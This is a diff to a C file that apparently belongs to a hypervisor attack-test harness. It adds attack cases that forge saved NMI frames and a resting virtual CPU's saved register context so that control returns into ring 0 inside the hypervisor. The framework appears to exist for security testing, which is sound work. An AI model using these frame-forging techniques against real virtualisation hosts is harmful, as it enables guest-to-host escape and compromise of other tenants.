@@ -5,6 +5,12 @@
  */
 #include "attacker.h"
 
+#include <errno.h>
+#include <fcntl.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <unistd.h>
+
 #define ENTRY_NO_SYSCALL 0 /* no TRAP_syscall: the way out is IRET */
 
 static void own_address(void) { cause(CAUSE_RETURN, won()); }
@@ -36,6 +42,18 @@ static void irq_address(void) { cause(CAUSE_IRQ_RETURN, won()); }
 static void irq_leaked(void) { cause(CAUSE_IRQ_RETURN, leaked()); }
 static void irq_frame(void) { cause(CAUSE_IRQ_FRAME, won()); }
 
+static void nmi_frame(void) { cause(CAUSE_NMI_FRAME, won()); }
+
+/* What a frame must have, from its RIP on, to lead to a place in ring 0. */
+static void write_frame(word rip, word target, word stack)
+{
+    poke(rip, target);
+    poke4(rip + 8, XEN_CS);
+    poke(rip + 24, stack);
+    poke4(rip + 32, 0);
+    poke4(rip - 4, ENTRY_NO_SYSCALL);
+}
+
 /* The guest's own frame: back to "the guest", but in ring 0 and in the hypervisor. */
 static void guest_frame(void)
 {
@@ -43,12 +61,30 @@ static void guest_frame(void)
 
     hold_other_cpu(CAUSE_WAIT);
     rip = (peek(data("attack_slot")) & ~0x7fffUL) | (rip & 0x7fffUL);
-    poke(rip, won());
-    poke4(rip + 8, XEN_CS);
-    poke(rip + 24, peek(data("attack_slot")) & ~0x3ffUL);
-    poke4(rip + 32, 0);
-    poke4(rip - 4, ENTRY_NO_SYSCALL);
+    write_frame(rip, won(), peek(data("attack_slot")) & ~0x3ffUL);
     release_other_cpu();
+}
+
+/* The guest's kernel takes its virtual CPU 1 off-line, or has it go on where it was. */
+static void set_online(const char *value)
+{
+    int file;
+
+    mount("sys", "/sys", "sysfs", 0, NULL);
+    file = open("/sys/devices/system/cpu/cpu1/online", O_WRONLY | O_CLOEXEC);
+    if ( file < 0 || write(file, value, 1) != 1 )
+        fail("CPU 1 cannot be switched on and off: %s", strerror(errno));
+    close(file);
+}
+
+/* A virtual CPU that rests has its registers in memory, if they have been saved; then something wakes it. */
+static void saved_context(void)
+{
+    set_online("0");
+    cause(CAUSE_SAVE_CONTEXT, 1);
+    last_step();
+    write_frame(fact(FACT_SAVED_CONTEXT, 1), won(), peek(data("stack_base") + 8) + 0x7000);
+    set_online("1");
 }
 
 const struct attack return_attacks[] = {
@@ -63,6 +99,8 @@ const struct attack return_attacks[] = {
     { "return-irq", "a return word inside the other CPU's interrupt becomes a true code address", irq_address },
     { "return-irq-leaked", "a return word inside the other CPU's interrupt becomes another call's", irq_leaked },
     { "frame-irq", "the saved RIP of an interrupt on the other CPU leads into the hypervisor", irq_frame },
+    { "frame-nmi", "the saved RIP of an NMI on the other CPU leads into the hypervisor", nmi_frame },
+    { "frame-context", "the saved registers of a virtual CPU that rests lead into the hypervisor", saved_context },
     { "frame-guest", "the saved RIP and CS of a guest on the other CPU lead into the hypervisor", guest_frame },
     { 0 }
 };
